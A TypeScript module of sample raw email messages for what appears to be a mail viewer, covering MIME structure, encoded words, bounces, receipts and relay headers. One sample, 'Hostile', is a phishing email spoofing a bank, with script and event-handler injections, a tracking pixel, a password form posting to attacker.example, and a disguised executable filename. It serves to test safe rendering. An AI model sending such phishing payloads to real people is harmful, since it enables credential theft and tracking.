/** Messages to begin with, as the text of their octets (source.ts). No DOM. */

export interface Example {
  readonly id: string;
  readonly title: string;
  /** What there is to see in it. */
  readonly about: string;
  readonly source: string;
}

/** A square of 8 by 8 pixels. */
const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR42mPgzk7GihiGlgQAHQM2QfS1kIYAAAAASUVORK5CYII=";

const PLAIN = `Date: Mon, 2 Mar 2026 09:30:00 +0000
From: Ann Smith <ann@client.example>
To: Bob Jones <bob@mx.example>
Cc: carol@mx.example
Subject: Lunch?
Message-ID: <20260302.1@client.example>

Hello Bob,

noon, the usual place? Carol comes, too.

Ann
`;

const ATTACHMENT = `Received: from client.example (client.example [192.0.2.10])
\tby mx.example with ESMTPS id 4f8a1c
\tfor <bob@mx.example>; Mon, 2 Mar 2026 10:00:03 +0000
Date: Mon, 2 Mar 2026 10:00:00 +0000
From: "Ann Smith" <ann@client.example>
To: bob@mx.example
Subject: =?utf-8?Q?The_figures_of_February=2C_caf=C3=A9_included?=
Message-ID: <20260302.2@client.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-1"

This is for programs that know no MIME.
--mixed-1
Content-Type: multipart/alternative; boundary="alternative-1"

--alternative-1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Bob,

here they are: 12=E2=80=AF% more than in January.

--alternative-1
Content-Type: multipart/related; type="text/html"; boundary="related-1"

--related-1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<!doctype html><html lang=3D"en">
<body style=3D"font-family: sans-serif">
<p>Hello Bob,</p>
<p>here they are: <b style=3D"color: #0b6b63">12=E2=80=AF% more</b>
than in January.</p>
<p><img src=3D"cid:square@client.example" alt=3D"A green square"
width=3D"48" height=3D"48"></p>
</body></html>

--related-1
Content-Type: image/png; name="square.png"
Content-Disposition: inline; filename="square.png"
Content-ID: <square@client.example>
Content-Transfer-Encoding: base64

${PNG.slice(0, 76)}
${PNG.slice(76)}
--related-1--

--alternative-1--

--mixed-1
Content-Type: text/csv; charset=utf-8
Content-Disposition: attachment; filename="figures.csv"
Content-Transfer-Encoding: base64

ZGF5LG1lc3NhZ2VzDQoyMDI2LTAyLTI3LDQxMg0KMjAyNi0wMi0yOCwzODgNCg==
--mixed-1--
`;

const WORDS = `Date: Tue, 3 Mar 2026 18:20:00 +0900
From: =?iso-2022-jp?B?GyRCOzNFRBsoQg==?= <yamada@client.example>
To: =?utf-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen@mx.example>,
 =?windows-1251?B?zO7x6uLg?= <moskva@mx.example>
Subject: =?utf-8?B?44GT44KT44Gr44Gh44Gv?= =?utf-8?Q?_=F0=9F=8D=B5_and?=
 =?iso-8859-1?Q?_d=E9j=E0_vu?=
Message-ID: <20260303.3@client.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="words"
Content-Transfer-Encoding: 8bit

--words
Content-Type: text/plain; charset=iso-8859-15
Content-Transfer-Encoding: 8bit

Prix : 12 \udca4, \udce0 payer.
--words
Content-Type: application/pdf
Content-Disposition: attachment; filename*0*=utf-8''r%C3%A9sum%C3%A9%20;
 filename*1*=de%20la%20r%C3%A9union; filename*2=".pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJSBub3QgbXVjaAo=
--words--
`;

const BOUNCE = `Received: by relay.example (Postfix)
\tid 9C1D23; Mon, 2 Mar 2026 10:12:31 +0000
Date: Mon, 2 Mar 2026 10:12:31 +0000
From: Mail Delivery System <mailer-daemon@relay.example>
To: ann@client.example
Subject: Undelivered Mail Returned to Sender
Message-ID: <20260302101231.9C1D23@relay.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
 boundary="9C1D23.1772446351/relay.example"

--9C1D23.1772446351/relay.example
Content-Type: text/plain; charset=us-ascii

Your message could not be delivered to one recipient, and waits for another.

--9C1D23.1772446351/relay.example
Content-Type: message/delivery-status

Reporting-MTA: dns; relay.example
Original-Envelope-Id: QQ314159
Arrival-Date: Mon, 2 Mar 2026 09:30:02 +0000

Final-Recipient: rfc822; nobody@mx.example
Original-Recipient: rfc822;nobody@mx.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example
Diagnostic-Code: smtp; 550 5.1.1 <nobody@mx.example>: no such user here

Final-Recipient: rfc822; full@mx.example
Action: delayed
Status: 4.2.2
Remote-MTA: dns; mx.example
Diagnostic-Code: smtp; 452 4.2.2 The mailbox is over its quota
Will-Retry-Until: Sat, 7 Mar 2026 09:30:02 +0000

--9C1D23.1772446351/relay.example
Content-Type: message/rfc822

Date: Mon, 2 Mar 2026 09:30:00 +0000
From: Ann Smith <ann@client.example>
To: nobody@mx.example, full@mx.example
Subject: Lunch?
Message-ID: <20260302.1@client.example>

Noon, the usual place?

--9C1D23.1772446351/relay.example--
`;

const DISPOSITION = `Date: Mon, 2 Mar 2026 11:05:00 +0000
From: Bob Jones <bob@mx.example>
To: Ann Smith <ann@client.example>
Subject: Read: Lunch?
Message-ID: <20260302.7@mx.example>
In-Reply-To: <20260302.1@client.example>
References: <20260302.1@client.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification;
 boundary="mdn"

--mdn
Content-Type: text/plain; charset=utf-8

Your message "Lunch?" was displayed. That does not say that it was understood.

--mdn
Content-Type: message/disposition-notification

Reporting-UA: reader.mx.example; Example Mail 4.2
Original-Recipient: rfc822;bob@mx.example
Final-Recipient: rfc822;bob@mx.example
Original-Message-ID: <20260302.1@client.example>
Disposition: manual-action/MDN-sent-manually; displayed

--mdn--
`;

const COMPLAINT = `Date: Wed, 4 Mar 2026 08:00:00 +0000
From: Feedback <feedback@provider.example>
To: abuse@client.example
Subject: Abuse report
Message-ID: <20260304.1@provider.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=feedback-report; boundary="arf"

--arf
Content-Type: text/plain; charset=us-ascii

Somebody has said that this message is not wanted.

--arf
Content-Type: message/feedback-report

Feedback-Type: abuse
User-Agent: Provider-Feedback/1.0
Version: 1
Original-Mail-From: <news@client.example>
Source-IP: 192.0.2.10
Arrival-Date: Tue, 3 Mar 2026 17:00:00 +0000
Reported-Domain: client.example

--arf
Content-Type: text/rfc822-headers

Date: Tue, 3 Mar 2026 16:59:58 +0000
From: News <news@client.example>
To: somebody@provider.example
Subject: This week
Message-ID: <20260303.news@client.example>

--arf--
`;

const FORWARDED = `Date: Mon, 2 Mar 2026 12:00:00 +0000
From: Bob Jones <bob@mx.example>
To: dave@mx.example
Subject: Fwd: Lunch?
Message-ID: <20260302.9@mx.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="forward"

--forward
Content-Type: text/plain; charset=utf-8

Will you come, too? See below.

--forward
Content-Type: message/rfc822
Content-Disposition: attachment; filename="Lunch.eml"

Date: Mon, 2 Mar 2026 09:30:00 +0000
From: Ann Smith <ann@client.example>
To: Bob Jones <bob@mx.example>
Subject: Lunch?
Message-ID: <20260302.1@client.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="inner"

--inner
Content-Type: text/plain; charset=utf-8

Noon, the usual place?

--inner
Content-Type: text/html; charset=utf-8

<html lang="en"><p>Noon, <i>the usual place</i>?</p></html>

--inner--

--forward--
`;

const JOURNEY = `Received: from relay.example (relay.example [198.51.100.25])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384)
\tby mx.example (Postfix) with ESMTPS id 4QrK5x2
\tfor <bob@mx.example>; Mon, 2 Mar 2026 10:47:20 +0100 (CET)
Authentication-Results: mx.example;
\tdkim=pass (2048-bit key) header.d=client.example header.s=2026 header.b="Zk3xT0aw";
\tspf=softfail smtp.mailfrom=client.example;
\tdmarc=pass (p=quarantine dis=none) header.from=client.example
Received: from submit.client.example (submit.client.example [192.0.2.20])
\tby relay.example with ESMTPS id 11f0; Mon, 2 Mar 2026 09:46:58 +0000
Received: from desk (unknown [203.0.113.77])
\tby submit.client.example with ESMTPSA id 77a2; Mon, 2 Mar 2026 04:30:05 -0500
Authentication-Results: submit.client.example; auth=pass smtp.auth=ann
DKIM-Signature: v=1; a=rsa-sha256; d=client.example; s=2026; c=relaxed/relaxed;
\th=from:to:subject:date:message-id; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
\tb=Zk3xT0awq1GkXl5Vd0O0
Date: Mon, 2 Mar 2026 09:30:09 +0000
From: Ann Smith <ann@client.example>
To: bob@mx.example
Subject: A message with a way behind it
Message-ID: <20260302.11@client.example>

The first server's clock was four seconds behind; the second had other things to do.
`;

const BROKEN = `From ann@client.example Mon Mar  2 09:30:00 2026
Date: Sun, 2 Mar 26 09:30:00 GMT
From: Smith, Ann <ann@client.example>
To: bob@mx.example; carol
Subject: URGENT NEWS
Subject: Re: lunch
Message-Id: 20260302.1@localhost
X-Note : Caf\udce9
Content-Type: multipart/mixed; boundary=simple

--simple
Content-Type: text/plain

Lines that end with LF alone${"\udc0a"}
are refused by servers,\udc0d and so is a CR alone.
Smart quotes \udc93as in Windows\udc94 need a character set that is named.
--simple
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgA*AAAAA
`;

const HOSTILE = `Date: Mon, 2 Mar 2026 09:30:00 +0000
From: "support@bank.example" <x7@attacker.example>
To: bob@mx.example
Subject: Your invoice \u202efdp.exe\u202c is due
Message-ID: <1@attacker.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="h"

--h
Content-Type: text/html; charset=utf-8

<html lang="en"><head>
<meta http-equiv="refresh" content="0; url=https://attacker.example/refresh">
<base href="https://attacker.example/">
<link rel="stylesheet" href="https://attacker.example/a.css">
<style>@import "https://attacker.example/b.css";
h1 { background: #fde url(https://attacker.example/c.png); padding: 8px }</style>
<script>document.title = "script ran"; fetch("https://attacker.example/d")</script>
</head><body onload="fetch('https://attacker.example/e')">
<h1>Your account is locked</h1>
<img src="https://attacker.example/pixel.gif?who=bob@mx.example" width="1" height="1" alt="">
<img src="x" onerror="alert('script ran')" alt="Logo">
<p style="color: #b3261e">Log in at <a href="https://bank.example.attacker.example/">https://bank.example/</a>
or <a href="javascript:alert('script ran')">here</a>.</p>
<form action="https://attacker.example/steal"><input name="password" placeholder="Password"><button>Log in</button></form>
<svg onload="alert('script ran')"><image href="https://attacker.example/f.svg"/></svg>
<iframe src="https://attacker.example/g"></iframe>
</body></html>
--h
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="invoice\u202efdp.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA
--h--
`;

export const EXAMPLES: readonly Example[] = [
  {
    id: "attachment",
    title: "Alternative with attachment",
    about: "Text and HTML of the same, an image that the HTML shows, and a file.",
    source: ATTACHMENT,
  },
  { id: "plain", title: "Plain", about: "The least that a message is: a header and a text.", source: PLAIN },
  {
    id: "words",
    title: "Encoded words",
    about: "Names and a subject in five character sets, a text in a sixth, and a file's name in pieces.",
    source: WORDS,
  },
  {
    id: "broken",
    title: "Broken",
    about: "Much that servers refuse and filters count: most of it has a fix.",
    source: BROKEN,
  },
  {
    id: "hostile",
    title: "Hostile",
    about:
      "Scripts, images that tell on the reader, a form, and text that runs backwards. Nothing of it works here.",
    source: HOSTILE,
  },
  {
    id: "journey",
    title: "A way over three servers",
    about: "Five fields to read: when who had it, whose clock is wrong, and what others found out.",
    source: JOURNEY,
  },
  {
    id: "bounce",
    title: "Bounce",
    about: "A delivery status notification: one recipient failed, one waits (RFC 3464).",
    source: BOUNCE,
  },
  {
    id: "disposition",
    title: "Read receipt",
    about: "A disposition notification: somebody has seen it (RFC 8098).",
    source: DISPOSITION,
  },
  {
    id: "complaint",
    title: "Complaint",
    about: "A feedback report from a mailbox provider (RFC 5965).",
    source: COMPLAINT,
  },
  {
    id: "forwarded",
    title: "Forwarded message",
    about: "A message in a message, with parts of its own.",
    source: FORWARDED,
  },
];
